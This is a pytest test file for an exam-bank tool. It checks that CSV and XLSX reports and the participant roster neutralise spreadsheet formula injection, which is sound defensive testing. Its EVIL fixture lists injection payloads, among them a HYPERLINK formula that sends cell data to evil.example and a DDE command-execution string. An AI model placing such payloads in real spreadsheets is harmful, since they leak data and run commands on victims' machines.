"""Spreadsheet formulas are never written live: every CSV and XLSX
Ujikom writes makes formula-looking text inert, and the roster refuses such names."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from exam_bank.cellsafe import append_row, csv_text, csv_value
from exam_bank.problems import InputError
from exam_bank.reports.tables import Column, Sheet, csv_bytes, xlsx_bytes
from exam_bank.roster.read import read_roster

FIXTURES = Path(__file__).parents[1] / "fixtures" / "roster"
EVIL = ('=HYPERLINK("http://evil.example/?d="&A1,"klik")', "=cmd|' /C calc'!A0",
        "+1+1", "-2+3", "@SUM(1,1)", "\t=1", "\r=1")


def _xml(text: object) -> object:
    """A carriage return comes back as a newline when the writer put it raw into the XML
    (the standard library's writer) and as itself when it wrote `&#13;` (lxml's, whenever
    lxml is installed): compare text with that one difference taken out."""
    return text.replace("\r", "\n") if isinstance(text, str) else text


def _no_formulas(data: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def test_report_tables_keep_formula_looking_text_as_text() -> None:
    sheet = Sheet("Peringkat", (Column("nama"), Column("jpm", "number")),
                  tuple((name, -1.5) for name in EVIL))
    values = [_xml(v) for v in _no_formulas(xlsx_bytes([sheet]))]
    assert all(_xml(name) in values for name in EVIL)  # the text itself, unchanged
    assert -1.5 in values  # numbers stay numbers
    rows = list(csv.reader(io.StringIO(csv_bytes(sheet).decode("utf-8-sig")), delimiter=";"))
    assert [r[0] for r in rows[1:]] == ["'" + name for name in EVIL]
    assert rows[1][1] == "-1,5"


def test_any_openpyxl_row_written_through_append_row_has_no_formula() -> None:
    book = Workbook()
    sheet = book.worksheets[0]
    append_row(sheet, [*EVIL, 3, None, "biasa"])
    out = io.BytesIO()
    book.save(out)
    values = _no_formulas(out.getvalue())[: len(EVIL)]
    assert [_xml(v) for v in values] == [_xml(name) for name in EVIL]


def test_csv_text_round_trips_through_csv_value() -> None:
    for text in (*EVIL, "biasa", "'kutip", "'=", "-"):
        assert csv_value(csv_text(text)) == text
    assert csv_text(-3) == "-3"  # a number is not a formula


@pytest.mark.parametrize("name", EVIL[:3])
def test_the_roster_refuses_a_formula_name_naming_the_row(tmp_path: Path, name: str) -> None:
    folder = tmp_path / "roster"
    shutil.copytree(FIXTURES / "good", folder)
    peserta = folder / "peserta.csv"
    lines = peserta.read_text("utf-8").splitlines()
    cells = next(csv.reader([lines[2]]))
    cells[1] = name
    out = io.StringIO()
    csv.writer(out, lineterminator="").writerow(cells)
    lines[2] = out.getvalue()
    peserta.write_text("\n".join(lines) + "\n", "utf-8")
    with pytest.raises(InputError) as err:
        read_roster(folder, today=dt.date(2026, 1, 5))
    (problem,) = err.value.problems
    assert (problem.where, problem.row, problem.column) == (str(peserta), 3, "B")
    assert "formula" in problem.message


def test_the_item_template_and_exported_items_hold_no_formula(tmp_path: Path) -> None:
    from exam_bank.importers.spreadsheet import write_template

    write_template(tmp_path / "soal.xlsx")
    _no_formulas((tmp_path / "soal.xlsx").read_bytes())
